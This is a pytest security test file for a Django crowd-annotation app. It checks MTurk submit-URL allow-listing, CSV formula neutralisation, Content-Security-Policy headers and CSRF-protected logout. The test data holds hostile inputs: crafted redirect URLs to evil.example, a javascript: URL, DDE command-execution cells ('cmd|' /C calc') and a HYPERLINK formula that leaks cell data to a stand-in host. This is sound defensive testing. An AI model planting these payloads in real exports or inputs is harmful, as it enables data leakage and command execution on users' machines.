"""What a visitor's browser or spreadsheet does with our pages and files: work is posted to MTurk only,
exported text never runs as a formula, no page runs a script that is not ours (Content-Security-Policy),
and annotators can log out."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.test import Client
from django.utils import timezone

from annotation.models import Assignment, AssignmentStatus, Campaign, Judgment, Worker
from annotation.providers.local import local_hit_take
from annotation.web.views import external_submit_url
from tests.annotation.builders import published_batch, sample_campaign
from tests.annotation.parabank_data import CANDS, import_contract

# WhiteNoise warns that the test run has no collected static files; irrelevant here
pytestmark = pytest.mark.filterwarnings("ignore:No directory at:UserWarning")
EVIL_SUBMIT = "https://evil.example\\@www.mturk.com"


def directives(response) -> dict[str, str]:
    header = response.get("Content-Security-Policy", "")
    out = {}
    for part in header.split(";"):
        name, _, value = part.strip().partition(" ")
        if name:
            out[name] = value.strip()
    return out


class _ScriptFinder(HTMLParser):
    """Inline scripts, event-handler attributes and javascript: URLs: what script-src 'self' refuses."""

    def __init__(self):
        super().__init__()
        self.inline = []
        self._in_script = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script":
            kind = (attrs.get("type") or "text/javascript").lower()
            self._in_script = None if "src" in attrs or "json" in kind else tag
        for name, value in attrs.items():
            if name.startswith("on"):
                self.inline.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "formaction") and (value or "").strip().lower().startswith(
                "javascript:"
            ):
                self.inline.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = None

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.inline.append(f"<script>{data.strip()[:60]}</script>")


def inline_scripts(html: str) -> list[str]:
    finder = _ScriptFinder()
    finder.feed(html)
    return finder.inline


def assert_script_policy(response, *, frame_ancestors="'none'"):
    """The page's CSP refuses every script that is not one of our files, and the page needs none."""
    assert response.status_code in (200, 403), response.status_code
    csp = directives(response)
    assert csp.get("script-src") == "'self'", response.get("Content-Security-Policy")
    assert csp.get("object-src") == "'none'" and csp.get("base-uri") == "'self'"
    assert csp.get("form-action", "").startswith("'self'")
    assert csp.get("frame-ancestors") == frame_ancestors
    assert inline_scripts(response.content.decode()) == []
    return csp


# --- 5. turkSubmitTo --------------------------------------------------------------------------------

CRAFTED_SUBMIT_TO = [
    EVIL_SUBMIT,  # urlsplit: host www.mturk.com; a browser: host evil.example
    "https://evil.example\\www.mturk.com",
    "https:\\\\evil.example",
    "https://evil.example@www.mturk.com",
    "https://user:pw@www.mturk.com",
    "https://www.mturk.com:8443",
    "https://www.mturk.com:443",
    "https://www.mturk.com:",
    "https://www.mturk.com/evil",
    "https://www.mturk.com//evil.example",
    "https://www.mturk.com/?next=https://evil.example",
    "https://www.mturk.com#https://evil.example",
    "https://www.mturk.com.evil.example",
    "https://evil.example/www.mturk.com",
    "https://evil.example",
    "https://mturk.com",
    "http://www.mturk.com",
    "//www.mturk.com",
    "javascript:alert(1)",
    " https://www.mturk.com",
    "https://www.mturk.com\t",
    "https://www.mturk.com\n",
    "https://www.mturk.com\x00",
    "https://www.mturk.com\u3002evil.example",
    "",
]


def test_a_crafted_turk_submit_to_gives_no_external_submit_url():
    passed = [given for given in CRAFTED_SUBMIT_TO if external_submit_url(given) is not None]
    assert passed == []


def test_mturk_submit_hosts_give_exactly_their_external_submit_url(settings):
    assert external_submit_url("https://www.mturk.com") == "https://www.mturk.com/mturk/externalSubmit"
    assert external_submit_url("https://www.mturk.com/") == "https://www.mturk.com/mturk/externalSubmit"
    assert (
        external_submit_url("https://workersandbox.mturk.com") == "https://workersandbox.mturk.com/mturk/externalSubmit"
    )
    assert (
        external_submit_url("HTTPS://WorkerSandbox.MTurk.com/")
        == "https://workersandbox.mturk.com/mturk/externalSubmit"
    )
    # the allow-list is the setting's: a host it does not name is refused
    settings.ANNOTATION_TURK_SUBMIT_HOSTS = ["workersandbox.mturk.com"]
    assert external_submit_url("https://www.mturk.com") is None
    assert (
        external_submit_url("https://workersandbox.mturk.com") == "https://workersandbox.mturk.com/mturk/externalSubmit"
    )


@pytest.fixture
def mturk_hit(db):
    campaign = sample_campaign("crowd", buckets=(5,), refs_per_bucket=1, candidates=5)
    return published_batch(campaign, attention_rate=0).hits.get()


def open_slider(client, hit, turk_submit_to):
    return client.get(
        f"/hits/{hit.pk}/", {"assignmentId": "A1", "hitId": "3HIT", "workerId": "W1", "turkSubmitTo": turk_submit_to}
    )


@pytest.mark.django_db
def test_the_slider_page_with_a_crafted_turk_submit_to_names_no_other_host(client, mturk_hit):
    response = open_slider(client, mturk_hit, EVIL_SUBMIT)
    html = response.content.decode()
    assert response.status_code == 200 and 'id="hit-form"' in html
    assert "evil.example" not in html
    assert 'data-external-submit=""' in html
    good = open_slider(client, mturk_hit, "https://www.mturk.com").content.decode()
    assert 'data-external-submit="https://www.mturk.com/mturk/externalSubmit"' in good


# --- 6. CSV injection -------------------------------------------------------------------------------

FORMULA_COMMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")'


def spreadsheet_cells(text: str) -> list[list]:
    """The cells as a spreadsheet types them: unquoted cells are numbers, quoted ones text."""
    return list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))


@pytest.mark.django_db
def test_results_csv_neutralises_formulas_from_workers_and_keeps_numbers(admin_client, mturk_hit):
    batch = mturk_hit.batch
    worker = Worker.objects.create(provider=batch.provider, external_id="+cmd|' /C calc'!A0")
    now = timezone.now()
    assignment = Assignment.objects.create(
        campaign=batch.campaign,
        hit=mturk_hit,
        worker=worker,
        provider=batch.provider,
        external_assignment_id="@SUM(1+1)",
        status=AssignmentStatus.SUBMITTED,
        accepted_at=now - timedelta(seconds=42),
        submitted_at=now,
        comment=FORMULA_COMMENT + ";-2+3;@x",
    )
    items = list(mturk_hit.items.order_by("position").select_related("candidate"))
    for k, item in enumerate(items):
        Judgment.objects.create(
            assignment=assignment,
            worker=worker,
            candidate=item.candidate,
            score=None if k == 0 else 10 * k,
            fluency=0 if k == 0 else 2,
        )
    # corpus text is user-supplied too
    items[1].candidate.text = "-1+1"
    items[1].candidate.save()

    response = admin_client.get(f"/api/batches/{batch.pk}/results.csv", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    text = response.content.decode()
    [read] = list(csv.DictReader(io.StringIO(text)))
    assert read["WorkerId"] == "'+cmd|' /C calc'!A0"
    assert read["AssignmentId"] == "'@SUM(1+1)"
    assert read["Answer.comment"] == "'" + FORMULA_COMMENT + ";-2+3;@x"
    assert read["Input.cand2"] == "'-1+1"
    assert read["Answer.cand1_fluency"] == "0" and read["Answer.cand2_score"] == "10"
    # text with a separator in it is one quoted cell: another separator cannot start a formula cell
    assert "\"'" + FORMULA_COMMENT.replace('"', '""') + ';-2+3;@x"' in text
    # numbers stay numbers (unquoted, unprefixed)
    header, row = spreadsheet_cells(text)
    cell = dict(zip(header, row))
    assert cell["Answer.cand2_score"] == 10 and cell["Answer.cand5_score"] == 40
    assert cell["Answer.cand2_fluency"] == 2 and cell["WorkTimeInSeconds"] == 42
    assert cell["Answer.cand1_score"] == "" and cell["InternalHITId"] == mturk_hit.pk


@pytest.mark.django_db
def test_result_table_downloads_neutralise_imported_system_names(admin_client, tmp_path):
    import_contract(tmp_path, cands=CANDS)
    campaign = Campaign.objects.get(name="contract")
    campaign.settings = {
        **campaign.settings,
        "min_judgments_per_worker": 0,
        "system_names": {**campaign.settings["system_names"], "17": "=1+cmd|' /C calc'!A0", "21": "-2"},
    }
    campaign.save()
    response = admin_client.get(f"/research/campaigns/{campaign.pk}/tables/similarity.csv")
    assert response.status_code == 200
    text = response.content.decode()
    names = {r["system"]: r["name"] for r in csv.DictReader(io.StringIO(text))}
    assert names["17"] == "'=1+cmd|' /C calc'!A0" and names["21"] == "'-2"
    assert names["28"] == "baseline: no constraints"  # ordinary names as they are
    header, *rows = spreadsheet_cells(text)
    by_system = {r[0]: dict(zip(header, r)) for r in rows}
    assert by_system["28"]["5"] == pytest.approx(79.5) and by_system["28"]["n"] == 2


# --- 9. Content-Security-Policy ---------------------------------------------------------------------


@pytest.fixture
def annotator(db):
    return get_user_model().objects.create_user("ann", password="pw-ann-123456")


@pytest.fixture
def local_assignment(annotator):
    campaign = sample_campaign("local", buckets=(5,), refs_per_bucket=1, candidates=5)
    published_batch(campaign, provider="local", attention_rate=0)
    return local_hit_take(user=annotator)


def local_slider_url(assignment) -> str:
    return (
        f"/hits/{assignment.hit_id}/?assignmentId={assignment.external_assignment_id}"
        f"&hitId={assignment.hit_id}&workerId={assignment.worker.external_id}"
    )


@pytest.mark.django_db
def test_public_pages_refuse_scripts_that_are_not_ours(client):
    for url in ("/", "/annotate/login/", "/admin/login/"):
        assert_script_policy(client.get(url))


@pytest.mark.django_db
def test_admin_and_research_pages_refuse_scripts_that_are_not_ours(admin_client, tmp_path):
    import_contract(tmp_path, cands=CANDS)
    campaign = Campaign.objects.get(name="contract")
    for url in (
        "/admin/",
        "/admin/annotation/batch/",
        "/admin/annotation/campaign/",
        f"/admin/annotation/campaign/{campaign.pk}/change/",
        "/admin/auth/user/add/",
        "/research/constraints/",
        "/research/campaigns/",
        f"/research/campaigns/{campaign.pk}/",
    ):
        response = admin_client.get(url)
        assert response.status_code == 200, url
        csp = assert_script_policy(response)
        assert csp["style-src"] == "'self' 'unsafe-inline'"  # the admin's and the dashboards' <style> blocks


@pytest.mark.django_db
def test_annotator_pages_refuse_scripts_that_are_not_ours(client, annotator):
    client.force_login(annotator)
    none_left = client.post("/annotate/next/")
    assert "No HIT left" in none_left.content.decode()
    assert_script_policy(none_left)
    Worker.objects.update_or_create(
        provider="local",
        external_id=f"user-{annotator.pk}",
        defaults={"user": annotator, "disqualified": True, "disqualified_reason": "too many failed checks"},
    )
    barred = client.get("/annotate/next/")
    assert barred.status_code == 403 and "quality standards" in barred.content.decode()  # never the rule itself
    assert_script_policy(barred)


@pytest.mark.django_db
def test_the_slider_page_keeps_its_mturk_frame_and_posts_only_to_us_and_mturk(client, mturk_hit):
    response = open_slider(client, mturk_hit, "https://www.mturk.com")
    csp = assert_script_policy(response, frame_ancestors="'self' https://*.mturk.com https://mturk.com")
    form_action = csp["form-action"].split()
    assert "https://www.mturk.com" in form_action and "https://workersandbox.mturk.com" in form_action
    assert all(source == "'self'" or source.endswith("mturk.com") for source in form_action)
    assert "/static/frontend/hit.js" in response.content.decode()


# --- 9. logout ----------------------------------------------------------------------------------------

LOGOUT_FORM = re.compile(
    r'<form method="post" action="/annotate/logout/" class="logout">'
    r'<input type="hidden" name="csrfmiddlewaretoken" value="([^"]+)">'
)


@pytest.mark.django_db
def test_annotator_pages_show_a_logout_button_crowd_pages_do_not(client, annotator, local_assignment, mturk_hit):
    client.force_login(annotator)
    slider = client.get(local_slider_url(local_assignment))
    assert slider.status_code == 200 and 'id="hit-form"' in slider.content.decode()
    assert LOGOUT_FORM.search(slider.content.decode())
    assert_script_policy(slider, frame_ancestors="'self' https://*.mturk.com https://mturk.com")
    # an MTurk HIT (shown in MTurk's frame) has nothing to log out of
    assert "/annotate/logout/" not in open_slider(client, mturk_hit, "https://www.mturk.com").content.decode()
    Assignment.objects.filter(pk=local_assignment.pk).update(status=AssignmentStatus.EXPIRED)
    Worker.objects.filter(pk=local_assignment.worker_id).update(disqualified=True)
    assert LOGOUT_FORM.search(client.get("/annotate/next/").content.decode())  # barred
    assert "/annotate/logout/" not in Client().get("/annotate/login/").content.decode()


@pytest.mark.django_db
def test_logout_by_post_logs_the_annotator_out(annotator, local_assignment):
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(annotator)
    page = browser.get(local_slider_url(local_assignment)).content.decode()
    token = LOGOUT_FORM.search(page).group(1)
    # a link (GET) or another site's form (no token) logs nobody out
    assert browser.get("/annotate/logout/").status_code == 405
    assert browser.post("/annotate/logout/").status_code == 403
    assert not browser.get("/annotate/next/").get("Location", "").startswith("/annotate/login/")
    response = browser.post("/annotate/logout/", {"csrfmiddlewaretoken": token})
    assert response.status_code == 302 and response["Location"] == "/annotate/login/"
    again = browser.get("/annotate/next/")
    assert again.status_code == 302 and again["Location"].startswith("/annotate/login/?next=")
    assert browser.get(local_slider_url(local_assignment))["Location"].startswith("/annotate/login/")
    assert (
        django_settings.SESSION_COOKIE_NAME not in browser.cookies
        or browser.cookies[django_settings.SESSION_COOKIE_NAME].value == ""
    )


# --- in a real browser ------------------------------------------------------------------------------

CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
    "--disable-sync",
]


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_in_chromium_the_pages_run_their_scripts_under_the_policy_and_the_annotator_logs_out(live_server, monkeypatch):
    from playwright.sync_api import sync_playwright

    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")  # Playwright's sync API runs an event loop
    user = get_user_model().objects.create_user("ann", password="pw-ann-123456")
    campaign = sample_campaign("local", buckets=(5,), refs_per_bucket=1, candidates=5)
    published_batch(campaign, provider="local", attention_rate=0)
    assignment = local_hit_take(user=user)
    session = Client()
    session.force_login(user)
    cookie = session.cookies[django_settings.SESSION_COOKIE_NAME].value
    problems = []

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
        try:
            context = browser.new_context()
            context.add_cookies(
                [{"name": django_settings.SESSION_COOKIE_NAME, "value": cookie, "url": live_server.url}]
            )
            page = context.new_page()
            page.on("console", lambda msg: problems.append(msg.text) if msg.type == "error" else None)
            page.on("pageerror", lambda exc: problems.append(str(exc)))
            for url in ("/", "/admin/login/"):
                page.goto(live_server.url + url)
            page.goto(live_server.url + local_slider_url(assignment))
            # hit.js runs: the slider's value follows it, N/A for a nonsensical sentence, checks on submit
            slider = page.locator("#score-2")  # sentences are named by their place on the page
            slider.focus()
            page.keyboard.press("End")
            assert page.locator("#score-2-value").inner_text() == "100"
            page.locator("input[name='fluency-1'][value='0']").check()
            assert page.locator("#score-1-value").inner_text() == "N/A"
            page.click("#submit")
            assert "4 left" in page.locator("#hit-message").inner_text()
            assert not [m for m in problems if "Content Security Policy" in m], problems

            page.click("#logout")
            page.wait_for_url(f"{live_server.url}/annotate/login/")
            page.goto(f"{live_server.url}/annotate/next/")
            assert page.url.startswith(f"{live_server.url}/annotate/login/?next=")
        finally:
            browser.close()
    assert not [m for m in problems if "Content Security Policy" in m], problems
